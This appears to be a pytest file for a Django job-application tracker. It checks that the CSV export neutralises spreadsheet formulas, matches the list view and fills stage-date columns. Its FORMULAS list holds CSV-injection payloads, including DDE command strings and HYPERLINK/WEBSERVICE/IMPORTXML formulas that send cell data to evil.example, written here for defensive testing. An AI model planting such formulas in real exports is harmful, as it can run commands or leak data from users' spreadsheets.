"""What leaves for a spreadsheet program arrives as the text it was, and computes nothing."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
import time_machine
from django.utils import timezone

from candidacy.models import Candidacy, Company, Profile
from desk import sample
from desk.agenda.asking import agenda
from desk.listing import Look, listing, rows_of
from tests.trust.payloads import PAYLOADS

if TYPE_CHECKING:
    from django.http import HttpResponse
    from django.test import Client

    from tests.soak import Soak

pytestmark = pytest.mark.django_db

# Of OWASP’s page on CSV injection, and of reports on it: each begins in its own way.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|'/C notepad'!'A1'",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", A1:H9), "//a")', '=DDE("cmd";"/C calc";"x")',
    "\t=1+1", "\r=1+1", "\n=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@A1", "=", "+", "-", "@",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', '"=1+1', "a\r\n=1+1", 'a","=1+1', "a\n=1+1", "a;=1+1",
    "'=1+1", "''", "=1+1,=2+2", '","",=1+1,"', "𝒜=1", "=\u202e1+1", "\ufeff=1+1", "\u00a0=1+1",
]  # fmt: skip
# What these programs compute, at the beginning of a cell.
COMPUTED = tuple("=+-@\t\r\n＝＋－＠")


def read_back(answer: HttpResponse) -> list[list[str]]:
    """The cells as a spreadsheet program reads them."""
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_row_28_no_cell_is_computed_and_every_text_comes_back(client: Client, soak: Soak) -> None:
    corpus = [*FORMULAS, *(one for one in PAYLOADS if "\x00" not in one)]
    for text in corpus:
        # As an import from elsewhere could have left them.
        Candidacy.objects.create(company=Company.objects.create(name=text), role=text, stage="applied")
    heading, *rows = read_back(client.get("/candidacies.csv"))
    assert {len(row) for row in rows} == {len(heading)}
    assert [one for row in rows for one in row if one.startswith(COMPUTED)] == []
    kept = sorted(text if not text.startswith(COMPUTED) else f"'{text}" for text in corpus)
    assert [sorted(row[place] for row in rows) for place in (0, 1)] == [kept, kept]
    soak.say(texts=len(corpus), cells=len(rows) * len(heading), formulas=0)


def test_the_table_says_what_the_list_says(client: Client) -> None:
    sample.load(timezone.now())
    answer = client.get("/candidacies.csv")
    heading, *rows = read_back(answer)
    assert heading == [
        "Company", "Role", "Stage", "Applied on", "Last contact", "State", "Next date", "Link",
        "Screening on", "Assessment on", "Interviewing on", "Final round on", "References on", "Offer on",
        "Closed on", "Ended as",
    ]  # fmt: skip
    assert answer.content.startswith("\ufeff".encode())
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert sorted(row[:3] for row in rows) == sorted(
        [one.company.name, one.role, one.get_stage_display()]
        for one in Candidacy.objects.select_related("company")
    )
    seen = agenda(timezone.now(), Profile.load())
    listed = rows_of(seen, [pk for pk, _ in listing(seen, Look(everything=True)).picked])
    assert len(listed) > 4
    states = {row[0]: row[5] for row in rows}
    assert {row.outlook.company.name: row.state for row in listed}.items() <= states.items()


def test_the_list_leads_to_it_and_a_contact_counts_as_the_last(client: Client) -> None:
    company = Company.objects.create(name="Northlight", country="GB", time_zone="Europe/London")
    candidacy = Candidacy.objects.create(
        company=company,
        role="Planner",
        stage="applied",
        applied_on="2026-09-01",
        posting_url="https://northlight.example/jobs/7",
    )
    candidacy.contacts.create(at="2026-09-03T23:30:00Z", direction="in", text="Next week")
    candidacy.contacts.create(at="2026-09-02T09:00:00Z", direction="out", text="Any news?")
    assert 'href="/candidacies.csv"' in client.get("/candidacies/").text
    (row,) = read_back(client.get("/candidacies.csv"))[1:]
    assert (row[3], row[4], row[7]) == ("2026-09-01", "2026-09-04", "https://northlight.example/jobs/7")


def test_the_days_of_each_stage_are_columns(client: Client) -> None:
    company = Company.objects.create(name="Northlight", country="GB", time_zone="Europe/London")
    candidacy = Candidacy.objects.create(company=company, stage="applied", applied_on="2026-09-01")
    candidacy.interviews.create(starts_at="2026-09-10T23:30:00Z")
    with time_machine.travel("2026-09-20T09:00:00Z"):
        candidacy.stage = "final"
        candidacy.save(update_fields=["stage"])
    candidacy.closed_on, candidacy.closed_as = "2026-10-01", "declined"
    candidacy.save(update_fields=["closed_on", "closed_as"])
    heading, row = read_back(client.get("/candidacies.csv"))
    assert {
        name: cell for name, cell in zip(heading, row, strict=True) if name.endswith((" on", "Ended as"))
    } == {
        "Applied on": "2026-09-01",
        "Screening on": "",
        "Assessment on": "",
        "Interviewing on": "2026-09-11",
        "Final round on": "2026-09-20",
        "References on": "",
        # Declined, so there was one; nothing tells its day.
        "Offer on": "",
        "Closed on": "2026-10-01",
        "Ended as": "Offer declined",
    }
